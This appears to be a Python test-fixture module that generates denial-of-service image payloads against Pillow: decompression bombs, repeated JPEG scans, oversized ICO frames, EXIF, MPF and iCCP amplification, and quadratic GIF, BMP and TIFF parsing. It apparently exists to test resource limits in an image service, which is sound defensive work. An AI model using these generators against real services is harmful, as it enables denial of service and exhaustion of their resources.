"""Hostile request bodies: small files that cost Pillow far more time or memory than they weigh.

Each generator is deterministic and builds its bytes in about a second or less; the defaults are the
reported attack sizes. Never decode a default-sized one without a limit in place: that is the attack."""
import base64
import io
import json
import struct
import zlib

from PIL import Image


def _chunk(kind: bytes, data: bytes) -> bytes:
    """One PNG chunk: length, type, data, CRC of type + data."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def one_bit_png(side: int) -> bytes:
    """Few bytes, many pixels: the costliest decode per byte seen (1-bit PNG to RGB)."""
    buf = io.BytesIO()
    Image.new("1", (side, side)).save(buf, "PNG")
    return buf.getvalue()


def amplified_json(count: int = 64, side: int = 6300, late_exif: bool = False) -> bytes:
    """One JSON request of `count` base64 copies of a 1-bit PNG, each under a per-image pixel limit: 64 x 39.7 Mpx
    is 2.5 Gpx in 0.42 MB. Attacks limits that are counted per image instead of per request."""
    png = base64.b64encode(png_with_late_exif(side) if late_exif else one_bit_png(side)).decode()
    return json.dumps({"instances": [png] * count}).encode()


def progressive_jpeg_repeated_scans(side: int = 6000, repeats: int = 400_000, mode: str = "L") -> bytes:
    """A black progressive JPEG whose first scan (the SOS segment and one byte of entropy data) comes
    `repeats` more times. libjpeg decodes every scan over every block, even when drafted to 1/8 scale:
    200 scans cost 0.6 s at 6000x6000 (2.4 ms a scan), so 400,000 (4.5 MB) would take about 16 minutes.
    Attacks limits on bytes or pixels alone: the cost is pixels x scans."""
    buf = io.BytesIO()
    Image.new(mode, (side, side)).save(buf, "JPEG", progressive=True, quality=75)
    data = buf.getvalue()
    sos = data.index(b"\xff\xda")  # the first SOS marker: everything before it is a marker segment
    end = sos + 2 + int.from_bytes(data[sos + 2:sos + 4], "big") + 1  # header + one entropy byte
    assert data[end - 1] != 0xFF, "the copied entropy byte must not start a marker"
    return data[:end] + data[sos:end] * repeats + data[end:]


def ico_with_huge_png(side: int = 60000) -> bytes:
    """An ICO whose directory says 256x256 but whose one frame is a side x side 1-bit PNG (437 KB at
    60000). Pillow's ICO plugin decodes the frame inside Image.open, before any size check can run
    (60000: about 3.4 GB and 15 s). Attacks limits checked after Image.open from the declared size."""
    raw = side * (1 + (side + 7) // 8)  # each row: filter byte 0 + packed pixels, all of them zero bytes
    block, rest = 1 << 24, raw % (1 << 24)  # deflate a block of zeros once; a full flush makes copies valid
    copy = (z := zlib.compressobj(9, wbits=-15)).compress(bytes(block)) + z.flush(zlib.Z_FULL_FLUSH)
    tail = (z := zlib.compressobj(9, wbits=-15)).compress(bytes(rest)) + z.flush()
    adler = (raw % 65521) << 16 | 1  # Adler-32 of zero bytes: a stays 1, b counts them
    idat = b"\x78\xda" + copy * (raw // block) + tail + struct.pack(">I", adler)
    ihdr = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)  # bit depth 1, grayscale
    png = b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")
    header = struct.pack("<HHH", 0, 1, 1)  # reserved, type 1 (icon), one image
    entry = struct.pack("<BBBBHHII", 0, 0, 0, 0, 1, 32, len(png), 6 + 16)  # 0 x 0 means 256 x 256
    return header + entry + png


def png_with_late_exif(side: int = 6300) -> bytes:
    """A side x side 1-bit PNG whose eXIf chunk (Orientation 6) comes after the IDAT chunks, so
    Image.getexif() (as used by ImageOps.exif_transpose) must decode the whole image to reach it.
    Attacks code that reads EXIF orientation before its pixel limits apply."""
    png = one_bit_png(side)
    exif = Image.Exif()
    exif[0x0112] = 6
    blob = exif.tobytes().removeprefix(b"Exif\x00\x00")  # PNG's eXIf holds the bare TIFF structure
    iend = png.rindex(b"IEND") - 4  # the IEND chunk starts with its 4-byte length
    return png[:iend] + _chunk(b"eXIf", blob) + png[iend:]


def gif_with_huge_comment(comment_bytes: int = 4_400_000) -> bytes:
    """An 8x8 GIF whose comment extension holds `comment_bytes` in 255-byte sub-blocks before the image.
    Pillow joins the sub-blocks with bytes += (quadratic): Image.open costs 1 to 5 s at 4.4 MB, depending
    on the machine. Attacks limits that only count pixels."""
    buf = io.BytesIO()
    Image.new("L", (8, 8)).save(buf, "GIF")
    gif = buf.getvalue()
    flags = gif[10]
    body = 13 + (3 << ((flags & 7) + 1) if flags & 0x80 else 0)  # header, screen descriptor, global palette
    full, rest = divmod(comment_bytes, 255)
    blocks = (b"\xff" + b"C" * 255) * full + (bytes([rest]) + b"C" * rest if rest else b"")
    return gif[:body] + b"\x21\xfe" + blocks + b"\x00" + gif[body:]


def deep_png(side: int, bit_depth: int = 16, colour_type: int = 6, interlaced: bool = False) -> bytes:
    """A black side x side PNG of many bits a pixel (default 16-bit RGBA: 64), built without Pillow,
    which writes neither 16-bit RGBA nor interlaced files. What its decoder inflates grows with the
    bits, and Adam7 adds seven passes: a 40 Mpx 16-bit RGBA PNG took 1 s to decode on 2 cores."""
    channels = {0: 1, 2: 3, 3: 1, 4: 2, 6: 4}[colour_type]
    bits = channels * bit_depth
    if interlaced:  # Adam7: each pass's sub-image has its own rows, each with a filter byte
        passes = [(0, 0, 8, 8), (4, 0, 8, 8), (0, 4, 4, 8), (2, 0, 4, 4), (0, 2, 2, 4), (1, 0, 2, 2), (0, 1, 1, 2)]
        sizes = [((side - x + dx - 1) // dx, (side - y + dy - 1) // dy) for x, y, dx, dy in passes]
        raw = sum(h * (1 + (w * bits + 7) // 8) for w, h in sizes if w and h)
    else:
        raw = side * (1 + (side * bits + 7) // 8)
    z, block = zlib.compressobj(9), bytes(1 << 22)
    idat = b"".join(z.compress(block[:min(len(block), raw - done)]) for done in range(0, raw, len(block)))
    ihdr = struct.pack(">IIBBBBB", side, side, bit_depth, colour_type, 0, 0, int(interlaced))
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", idat + z.flush())
            + _chunk(b"IEND", b""))


def amplified_exif(container: str = "jpeg", tags: int = 5_000, blob: int = 900_000, orientation: int = 6,
                   value_type: int = 7) -> bytes:
    """An 8x8 image whose EXIF (1 MB at most) holds `tags` tags that all point at one `blob`-byte value:
    Pillow copies the value out once per tag, so the defaults ask 4.5 GB of a worker (2,000 tags of
    300 KB: 0.4 to 1 s and 600 MB measured). A JPEG's EXIF
    may span many APP1 segments (Pillow joins them) and Pillow parses it inside Image.open when the
    file gives no DPI; a TIFF names it as its Exif directory, which Pillow loads with the pixels.
    container: jpeg, png (eXIf), webp or tiff. value_type: the tags' TIFF type (7: bytes; 5: rationals,
    each of which Pillow unpacks into a Python object)."""
    if container == "tiff":  # IFD0 describes an 8x8 grey strip and points at the Exif directory
        strip_at = 8 + 2 + 12 * 10 + 4
        exif_at = strip_at + 64
        ifd0 = [(256, 3, 1, 8), (257, 3, 1, 8), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1),
                (0x0112, 3, 1, orientation), (273, 4, 1, strip_at), (277, 3, 1, 1), (279, 4, 1, 64),
                (0x8769, 4, 1, exif_at)]
        head, ifd_at, own = b"II*\0" + struct.pack("<I", 8) + _ifd(ifd0) + bytes(64), exif_at, []
    else:
        head, ifd_at, own = b"II*\0" + struct.pack("<I", 8), 8, [(0x0112, 3, 1, orientation)]
    blob_at = ifd_at + 2 + 12 * (len(own) + tags) + 4
    size = {5: 8, 3: 2, 4: 4}.get(value_type, 1)
    tiff = head + _ifd(own + [(0xB000 + i, value_type, blob // size, blob_at) for i in range(tags)]) + bytes(blob)
    if container == "tiff":
        return tiff
    buf = io.BytesIO()
    if container == "png":
        Image.new("L", (8, 8)).save(buf, "PNG")
        png = buf.getvalue()
        iend = png.rindex(b"IEND") - 4
        return png[:iend] + _chunk(b"eXIf", tiff) + png[iend:]
    if container == "webp":
        Image.new("L", (8, 8)).save(buf, "WEBP", exif=b"Exif\0\0" + tiff)
        return buf.getvalue()
    Image.new("L", (8, 8)).save(buf, "JPEG")
    jpeg = buf.getvalue()
    segments = b"".join(b"\xff\xe1" + struct.pack(">H", 8 + len(part)) + b"Exif\0\0" + part
                        for part in (tiff[i:i + 65_000] for i in range(0, len(tiff), 65_000)))
    return jpeg[:2] + segments + jpeg[2:]


def _ifd(entries: list[tuple[int, int, int, int]], next_ifd: int = 0) -> bytes:
    """A little-endian TIFF directory: (tag, type, count, value or offset) entries, sorted by tag."""
    return (struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *e) for e in sorted(entries))
            + struct.pack("<I", next_ifd))


def rle_bmp(side: int = 6000, rle4: bool = False) -> bytes:
    """A side x side run-length BMP whose every row holds one pixel and then ends: Pillow's RLE decoder,
    written in Python, pads the rest of each row a pixel at a time (4 Mpx: 0.8 s). The default is
    24 KB for 36 Mpx, under every pixel limit. Attacks budgets that count every decoder alike."""
    data = (b"\x01\x00" + b"\x00\x00") * side + b"\x00\x01"  # one pixel, end of line; end of bitmap
    palette = bytes(4 * (16 if rle4 else 256))
    offset = 14 + 40 + len(palette)
    info = struct.pack("<IiiHHIIiiII", 40, side, side, 1, 4 if rle4 else 8, 2 if rle4 else 1, len(data), 0, 0,
                       len(palette) // 4, 0)
    return b"BM" + struct.pack("<IHHI", offset + len(data), 0, 0, offset) + info + palette + data


def jpeg_with_fill_bytes(count: int = 6_000_000) -> bytes:
    """A 64x64 JPEG with `count` 0xFF fill bytes before its scan: the standard allows any number, and
    Pillow's Image.open skips them a byte at a time in Python (6 MB: 2.7 s)."""
    buf = io.BytesIO()
    Image.new("RGB", (64, 64), "red").save(buf, "JPEG")
    jpeg = buf.getvalue()
    sos = jpeg.index(b"\xff\xda")
    return jpeg[:sos] + b"\xff" * count + jpeg[sos:]


def jpeg_with_mpf(tags: int = 400, rationals: int = 2_000) -> bytes:
    """A 64x64 JPEG whose MPF segment (the index of an MPO's pictures) holds `tags` tags of
    `rationals` rationals each, all pointing at one blob: Pillow parses MPF inside Image.open and
    unpacks every value (400 x 2,000 in 21 KB took 2.95 s)."""
    buf = io.BytesIO()
    Image.new("RGB", (64, 64), "red").save(buf, "JPEG")
    jpeg = buf.getvalue()
    blob_at = 8 + 2 + 12 * tags + 4
    tiff = b"II*\0" + struct.pack("<I", 8) + _ifd([(0xB000 + i, 5, rationals, blob_at) for i in range(tags)])
    tiff += struct.pack("<II", 1, 1) * rationals
    segment = b"MPF\0" + tiff
    return jpeg[:2] + b"\xff\xe2" + struct.pack(">H", 2 + len(segment)) + segment + jpeg[2:]


def png_with_icc_chunks(count: int = 1_000, inflated: int = 1 << 20) -> bytes:
    """An 8x8 PNG with `count` iCCP chunks of about 1 KB that each inflate to `inflated` bytes:
    Pillow inflates every one inside Image.open, each under its 1 MiB chunk limit and with no limit
    on their sum (1,007 of them: 2.3 s)."""
    buf = io.BytesIO()
    Image.new("L", (8, 8)).save(buf, "PNG")
    png = buf.getvalue()
    chunk = _chunk(b"iCCP", b"icc\0\0" + zlib.compress(bytes(inflated), 9))
    return png[:33] + chunk * count + png[33:]


def tiff_with_many_tags(tags: int = 4_000) -> bytes:
    """An 8x8 grey Deflate TIFF (so libtiff loads it) whose IFD0 holds `tags` unknown one-number tags
    beside its own: libtiff's directory reader is quadratic in them (4,000: 0.7 s; 900: 0.09 s),
    though their values are a few bytes."""
    strip = zlib.compress(bytes(64))
    strip_at = 8 + 2 + 12 * (9 + tags) + 4
    own = [(256, 3, 1, 8), (257, 3, 1, 8), (258, 3, 1, 8), (259, 3, 1, 8), (262, 3, 1, 1),
           (273, 4, 1, strip_at), (277, 3, 1, 1), (278, 3, 1, 8), (279, 4, 1, len(strip))]
    return b"II*\0" + struct.pack("<I", 8) + _ifd(own + [(0x9000 + i, 3, 1, i) for i in range(tags)]) + strip
